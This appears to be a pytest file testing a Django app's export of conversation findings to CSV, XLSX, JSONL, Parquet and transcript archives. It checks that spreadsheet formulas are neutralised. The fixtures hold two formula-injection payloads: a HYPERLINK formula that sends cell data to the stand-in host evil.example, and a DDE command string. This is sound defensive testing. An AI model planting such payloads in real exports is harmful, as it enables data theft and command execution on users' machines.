"""What is on the screen is taken away in any form, and nothing of it runs as a formula."""

import csv
import io
import json
import zipfile
from typing import Any

import pytest
from django.utils import timezone

from conversations.models import Conversation, Decided
from findings import storage
from findings.domain import ask_export, run_exports, sweep_exports
from findings.domain.exporting import RUN
from findings.domain.making import key_of
from findings.domain.removing import unknown_files
from findings.models import Export
from findings.queries.kept import read
from findings.tests.making import dinners, selection
from intake.domain import Decision, decide_finding
from intake.tests.making import conversation
from orgs.domain import Actor
from orgs.models import AuditEvent, Organization, User

pytestmark = pytest.mark.django_db(transaction=True)

COLUMNS = "&col=goal.city&col=goal.people&col=goal.outdoors&col=context.channel&col=person.name"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def export(organization: Organization, by: User, form: str, query: str = "") -> Export:
    """Return an export, made."""
    chosen = read(organization.pk, selection(query + COLUMNS))
    asked = ask_export(
        actor=Actor(AuditEvent.Actor.USER, by.pk), organization=organization, read=chosen,
        form=form, told=6, is_exact=True,
    )  # fmt: skip
    run_exports()
    asked.refresh_from_db()
    return asked


def content(bucket: Any, made: Export) -> bytes:
    assert made.state == "ready", made.reason
    return bytes(bucket.Object(key_of(made)).get()["Body"].read())


@pytest.fixture
def hostile(northwind: Organization) -> Conversation:
    """A conversation whose words would be formulas, and one that was corrected."""
    first, *_ = dinners(northwind)
    decision = Decision(Decided.CORRECTED, value="Porto, “the port”\nby night")
    decide_finding(northwind.pk, first.pk, "city", decision)
    return conversation(
        northwind, "iv_evil", minute=9, template_id="tpl_dinner",
        persons=[{"external_id": "user_2", "name": "+1+cmd|' /C calc'!A0"}],
        findings=[{"goal": "city", "value": FORMULA}, {"goal": "people", "value": -5}],
    )  # fmt: skip


def test_csv_holds_what_is_on_the_screen(
    northwind: Organization, analyst: User, hostile: Conversation, bucket: Any
) -> None:
    made = export(northwind, analyst, "csv")
    text = content(bucket, made).decode("utf-8-sig")
    head, *rows = csv.reader(io.StringIO(text))
    assert head == [
        "conversation", "created_at", "person", "status", "city", "people", "outdoors", "channel",
        "person name", "reviewed",
    ]  # fmt: skip
    assert [row[0] for row in rows] == ["iv_evil", *(f"iv_{n}" for n in range(5, -1, -1))]
    evil, first = rows[0], rows[-1]
    assert (evil[2], evil[4], evil[5]) == ("'+1+cmd|' /C calc'!A0", f"'{FORMULA}", "-5")
    assert first[4:7] == ["Porto, “the port”\nby night", "2", "true"]
    assert json.loads(first[9]) == {"city": {"review": "corrected", "original_value": "Lisbon"}}
    assert (made.rows_done, made.size) == (7, len(content(bucket, made)))
    assert AuditEvent.objects.get(action="findings.export").details == {"conversations": 6}


def test_filters_order_and_search_hold(
    northwind: Organization, analyst: User, hostile: Conversation, bucket: Any
) -> None:
    def ids(query: str) -> list[str]:
        text = content(bucket, export(northwind, analyst, "csv", query)).decode("utf-8-sig")
        return [row[0] for row in csv.reader(io.StringIO(text))][1:]

    assert ids("where=people:min:4") == ["iv_3", "iv_1"]
    assert ids("sort=asc:people")[:2] == ["iv_evil", "iv_0"]
    assert ids("q=blue") == ["iv_3"]


@pytest.mark.parametrize("form", ["csv", "xlsx", "jsonl", "parquet"])
def test_all_that_is_told_about_a_conversation_can_be_taken_away(
    northwind: Organization, analyst: User, hostile: Conversation, bucket: Any, form: str
) -> None:
    about = "".join(f"&col=about.{name}" for name in ("outcome", "length", "turns", "version"))
    made = export(northwind, analyst, form, about)
    data = content(bucket, made)
    assert made.rows_done == 7
    if form == "csv":
        rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
        assert {row["version"] for row in rows} == {"1"}
        assert all(row["turns"].isdigit() for row in rows)


def test_jsonl_keeps_values_as_they_were_committed(
    northwind: Organization, analyst: User, hostile: Conversation, bucket: Any
) -> None:
    lines = content(bucket, export(northwind, analyst, "jsonl")).decode().splitlines()
    rows = {row["conversation"]: row for row in map(json.loads, lines)}
    assert len(rows) == 7
    assert rows["iv_evil"]["city"] == FORMULA
    assert (rows["iv_1"]["people"], rows["iv_1"]["outdoors"]) == (4, False)
    assert rows["iv_5"]["city"] is None
    assert rows["iv_0"]["reviewed"]["city"]["original_value"] == "Lisbon"


def test_a_workbook_has_no_formula_and_a_codebook(
    northwind: Organization, analyst: User, hostile: Conversation, bucket: Any
) -> None:
    data = content(bucket, export(northwind, analyst, "xlsx"))
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        table = book.read("xl/worksheets/sheet1.xml").decode()
        codebook = book.read("xl/worksheets/sheet2.xml").decode()
    assert "<f>" not in table and "HYPERLINK" in table
    assert "<v>-5</v>" in table
    assert "What else" not in codebook and "declared" in codebook
    assert "San José" in codebook and "Dinner" in codebook


def test_parquet_has_types_and_loses_nothing(
    northwind: Organization, analyst: User, hostile: Conversation, bucket: Any
) -> None:
    parquet = pytest.importorskip("pyarrow.parquet")
    odd = ("about a dozen", "1_000", "nan", 12345678901234567890)
    for number, value in enumerate(odd):
        conversation(
            northwind, f"iv_odd_{number}", minute=20 + number, template_id="tpl_dinner",
            findings=[{"goal": "people", "value": value}],
        )  # fmt: skip
    table = parquet.read_table(io.BytesIO(content(bucket, export(northwind, analyst, "parquet"))))
    rows = table.to_pylist()
    assert str(table.schema.field("people").type) == "double"
    assert [row["people"] for row in rows[:4]] == [None] * 4
    assert [json.loads(row["unread"])["people"] for row in rows[:4]] == [
        "12345678901234567890", "nan", "1_000", "about a dozen",
    ]  # fmt: skip
    assert (rows[-1]["people"], rows[-1]["outdoors"]) == (2.0, True)
    assert rows[-1]["created_at"].tzinfo is not None


@pytest.mark.parametrize("form", ["txt", "md", "json"])
def test_transcripts_come_in_an_archive(
    northwind: Organization, analyst: User, hostile: Conversation, bucket: Any, form: str
) -> None:
    made = export(northwind, analyst, form, "where=city:is:Oslo")
    with zipfile.ZipFile(io.BytesIO(content(bucket, made))) as archive:
        assert archive.namelist() == [f"iv_1.{form}"]
        assert "I need a table for two" in archive.read(f"iv_1.{form}").decode()


def test_a_killed_workers_export_is_made_again(
    northwind: Organization, analyst: User, hostile: Conversation, bucket: Any
) -> None:
    made = export(northwind, analyst, "csv")
    left = storage.Upload(key_of(made), "text/csv")
    left.write(b"half")
    now = timezone.now()
    Export.objects.update(state="running", rows_done=3, lease_until=now)
    assert run_exports() == 1
    made.refresh_from_db()
    assert (made.state, made.run, made.rows_done) == ("ready", 2, 7)
    Export.objects.update(state="running", run=5, lease_until=now)
    assert run_exports() == 0
    made.refresh_from_db()
    assert (made.state, made.reason) == ("failed", "interrupted")


def test_one_that_is_removed_meanwhile_leaves_no_file(
    northwind: Organization, analyst: User, bucket: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    dinners(northwind)
    finish = storage.Upload.finish

    def finish_too_late(upload: storage.Upload) -> None:
        finish(upload)
        Export.objects.all().delete()

    monkeypatch.setattr(storage.Upload, "finish", finish_too_late)
    chosen = read(northwind.pk, selection(COLUMNS[1:]))
    ask_export(
        actor=Actor(AuditEvent.Actor.USER, analyst.pk), organization=northwind, read=chosen,
        form="csv", told=6, is_exact=True,
    )  # fmt: skip
    assert run_exports() == 0
    assert list(bucket.objects.all()) == []


def test_what_is_a_day_old_is_swept_and_so_is_what_nobody_knows(
    northwind: Organization, analyst: User, bucket: Any
) -> None:
    dinners(northwind)
    made = export(northwind, analyst, "csv")
    assert sweep_exports() == 0
    bucket.put_object(Key=f"exports/{northwind.pk}/1/somebody/x.csv", Body=b"x")
    assert len(unknown_files("exports/")) == 1
    Export.objects.update(expires_at=timezone.now())
    assert sweep_exports() == 2
    assert list(bucket.objects.all()) == []
    assert not Export.objects.filter(pk=made.pk).exists()


def test_the_task_has_the_name_it_is_woken_by() -> None:
    from findings.tasks import run_exports as task

    assert task.name == RUN
